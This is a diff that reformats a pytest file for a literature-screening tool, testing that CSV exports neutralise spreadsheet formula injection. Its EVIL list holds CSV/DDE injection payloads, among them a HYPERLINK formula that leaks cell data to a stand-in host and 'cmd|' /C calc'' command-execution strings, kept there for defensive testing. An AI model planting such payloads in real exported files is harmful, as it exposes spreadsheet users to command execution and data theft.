@@ -28,8 +28,14 @@ from screener.paths import example_dir
 from screener.store import SourceInput, open_store
 
 TA, FT = Stage.TITLE_ABSTRACT, Stage.FULL_TEXT
-EVIL = ["=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
-        "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
+EVIL = [
+    '=HYPERLINK("http://x.example/?"&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
 FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
 
 
@@ -40,8 +46,15 @@ def run(*args: str, cwd: Path, limit_bytes: int | None = None) -> subprocess.Com
         if limit_bytes is not None:
             resource.setrlimit(resource.RLIMIT_FSIZE, (limit_bytes, limit_bytes))
 
-    return subprocess.run([sys.executable, "-m", "screener", *args], cwd=cwd, capture_output=True, text=True,
-                          env=env, timeout=120, preexec_fn=limit)
+    return subprocess.run(
+        [sys.executable, "-m", "screener", *args],
+        cwd=cwd,
+        capture_output=True,
+        text=True,
+        env=env,
+        timeout=120,
+        preexec_fn=limit,
+    )
 
 
 def invoke(db: Path, *args: str):
@@ -54,14 +67,29 @@ def review(tmp_path: Path) -> Path:
     path = tmp_path / "review.db"
     store = open_store(path, create=True)
     store.init_review(load_protocol(example_dir() / "protocol.toml"))
-    records = [BibRecord(position=i, title=title, authors=(Author("=Younger", "J"),), year=2010 + i,
-                         journal="@Pain Med", doi=f"10.1/{i}", abstract="A" * 20_000 + f" {i}", source_id=f"-{i}")
-               for i, title in enumerate(EVIL, start=1)]
-    store.add_source(SourceInput("=HYPERLINK(\"http://x\")", "pubmed.nbib", "a" * 64, "pubmed"), records)
+    records = [
+        BibRecord(
+            position=i,
+            title=title,
+            authors=(Author("=Younger", "J"),),
+            year=2010 + i,
+            journal="@Pain Med",
+            doi=f"10.1/{i}",
+            abstract="A" * 20_000 + f" {i}",
+            source_id=f"-{i}",
+        )
+        for i, title in enumerate(EVIL, start=1)
+    ]
+    store.add_source(SourceInput('=HYPERLINK("http://x")', "pubmed.nbib", "a" * 64, "pubmed"), records)
     for reviewer in ("NA", "ZL"):
         for rid in range(1, len(EVIL) + 1):
-            store.record_decision(rid, TA, reviewer, Verdict.INCLUDE if rid <= 2 else Verdict.EXCLUDE,
-                                  note="=1+1 note" if rid == 1 else None)
+            store.record_decision(
+                rid,
+                TA,
+                reviewer,
+                Verdict.INCLUDE if rid <= 2 else Verdict.EXCLUDE,
+                note="=1+1 note" if rid == 1 else None,
+            )
         store.record_decision(1, FT, reviewer, Verdict.INCLUDE)
         store.record_decision(2, FT, reviewer, Verdict.EXCLUDE, reasons=("E4",), note="-1+cmd")
     store.unblind(TA, "NA")
@@ -81,14 +109,22 @@ def _assert_neutral(text: str, must_contain: str) -> None:
     assert not bad, f"formula cells left as they were: {bad}"
 
 
-@pytest.mark.parametrize(("args", "marker"), [
-    (("export", "records", "--set", "records_screened", "--format", "csv"), "HYPERLINK(\"http://x.example"),
-    (("export", "decisions"), "=1+1 note"),
-    (("export", "duplicates"), "@SUM(1+1)"),
-    (("export", "exclusions"), "+cmd|"),
-    (("prisma", "--format", "csv"), "=HYPERLINK(\"\"http://x\"\")"[:11]),
-])
-def test_every_csv_export_neutralises_formulas(review: Path, tmp_path: Path, args: tuple[str, ...], marker: str):
+@pytest.mark.parametrize(
+    ("args", "marker"),
+    [
+        (
+            ("export", "records", "--set", "records_screened", "--format", "csv"),
+            'HYPERLINK("http://x.example',
+        ),
+        (("export", "decisions"), "=1+1 note"),
+        (("export", "duplicates"), "@SUM(1+1)"),
+        (("export", "exclusions"), "+cmd|"),
+        (("prisma", "--format", "csv"), '=HYPERLINK(""http://x"")'[:11]),
+    ],
+)
+def test_every_csv_export_neutralises_formulas(
+    review: Path, tmp_path: Path, args: tuple[str, ...], marker: str
+):
     out = tmp_path / "out.csv"
     result = invoke(review, *args, "-o", str(out))
     assert result.exit_code == 0, result.output
@@ -145,12 +181,25 @@ def test_output_into_a_missing_folder_is_one_line(review: Path, tmp_path: Path):
 def test_a_failed_export_keeps_the_old_file(review: Path, tmp_path: Path):
     """`ulimit -f` then an export bigger than the limit: the earlier export is intact, no temp file left."""
     out = tmp_path / "out.ris"
-    first = run("--db", str(review), "export", "records", "--set", "records_screened", "-o", str(out), cwd=tmp_path)
+    first = run(
+        "--db", str(review), "export", "records", "--set", "records_screened", "-o", str(out), cwd=tmp_path
+    )
     assert first.returncode == 0, first.stderr
     good = out.read_bytes()
     assert len(good) > 100_000
-    again = run("--db", str(review), "export", "records", "--set", "records_screened", "-o", str(out), "--force",
-                cwd=tmp_path, limit_bytes=len(good) // 2)
+    again = run(
+        "--db",
+        str(review),
+        "export",
+        "records",
+        "--set",
+        "records_screened",
+        "-o",
+        str(out),
+        "--force",
+        cwd=tmp_path,
+        limit_bytes=len(good) // 2,
+    )
     assert again.returncode == 1, again.stderr
     lines = again.stderr.strip().splitlines()
     assert len(lines) == 1 and f"could not write {out}" in lines[0] and "left as it was" in lines[0], lines
